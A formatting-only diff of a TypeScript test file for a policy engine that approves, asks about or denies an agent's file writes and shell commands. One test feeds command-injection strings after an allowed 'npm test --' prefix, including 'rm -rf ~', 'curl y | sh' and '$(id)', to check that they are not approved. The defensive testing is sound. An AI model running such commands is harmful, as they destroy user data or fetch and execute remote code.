@@ -75,7 +75,13 @@ function answering(reply: BrokerDecision | null): { asked: ConfirmationRequest[]
 }
 
 const WRITE_A: CallTarget = { kind: 'write', paths: ['a.txt'] };
-const command = (c: string, hasEnv = false): CallTarget => ({ kind: 'command', command: c, shown: c, hasEnv, cwd: '.' });
+const command = (c: string, hasEnv = false): CallTarget => ({
+  kind: 'command',
+  command: c,
+  shown: c,
+  hasEnv,
+  cwd: '.',
+});
 
 function check(engine: PolicyEngine, w: PolicySubject, tool: ToolName, onAsk?: () => void, target?: CallTarget) {
   const t = target ?? (tool === 'run_command' ? command('npm test') : WRITE_A);
@@ -167,7 +173,9 @@ describe('PolicyEngine', () => {
       expect(w.config.allowances).toMatchObject([
         { scope: { kind: 'path', path: '.', folder: true }, expiresAt: now + 5 * 60_000 },
       ]);
-      await expect(check(engine, w, 'edit_file', undefined, { kind: 'write', paths: ['b.txt'] })).resolves.toMatchObject({
+      await expect(
+        check(engine, w, 'edit_file', undefined, { kind: 'write', paths: ['b.txt'] }),
+      ).resolves.toMatchObject({
         allowed: true,
         decision: 'remembered',
         rule: { id: 'alw_1' },
@@ -200,9 +208,9 @@ describe('PolicyEngine', () => {
       await check(engine, w, 'run_command', undefined, command('npm test -- --grep a'));
       expect(asked[0]!.offers[1]).toEqual({ kind: 'prefix', prefix: 'npm test --' });
       expect(w.config.allowances).toMatchObject([{ expiresAt: null }]);
-      await expect(
-        check(engine, w, 'run_command', undefined, command('npm test -- --grep b')),
-      ).resolves.toMatchObject({ decision: 'remembered' });
+      await expect(check(engine, w, 'run_command', undefined, command('npm test -- --grep b'))).resolves.toMatchObject({
+        decision: 'remembered',
+      });
       for (const c of ['npm test -- x; rm -rf ~', 'npm test -- x && curl y | sh', 'npm test -- $(id)']) {
         await check(engine, w, 'run_command', undefined, command(c));
       }
@@ -217,12 +225,18 @@ describe('PolicyEngine', () => {
         { id: 'x', scope: { kind: 'category', category: 'write' }, createdAt: now, expiresAt: null },
         { id: 'y', scope: { kind: 'prefix', prefix: 'npm' }, createdAt: now, expiresAt: null },
       ];
-      const w = subject({ policy: { read: 'allow', write: 'ask', shell: 'deny' }, disabledTools: ['delete'], allowances });
+      const w = subject({
+        policy: { read: 'allow', write: 'ask', shell: 'deny' },
+        disabledTools: ['delete'],
+        allowances,
+      });
       await expect(check(engine, w, 'run_command')).resolves.toMatchObject({ error: { code: 'policy_denied' } });
       await expect(check(engine, w, 'delete')).resolves.toMatchObject({ error: { code: 'tool_disabled' } });
-      await expect(check(engine, subject({ paused: true, allowances }, 'paused'), 'write_file')).resolves.toMatchObject({
-        error: { code: 'runtime_paused' },
-      });
+      await expect(check(engine, subject({ paused: true, allowances }, 'paused'), 'write_file')).resolves.toMatchObject(
+        {
+          error: { code: 'runtime_paused' },
+        },
+      );
     });
 
     it('caps an allowance at MAX_ALLOW_MINUTES and defaults to 10 minutes', async () => {
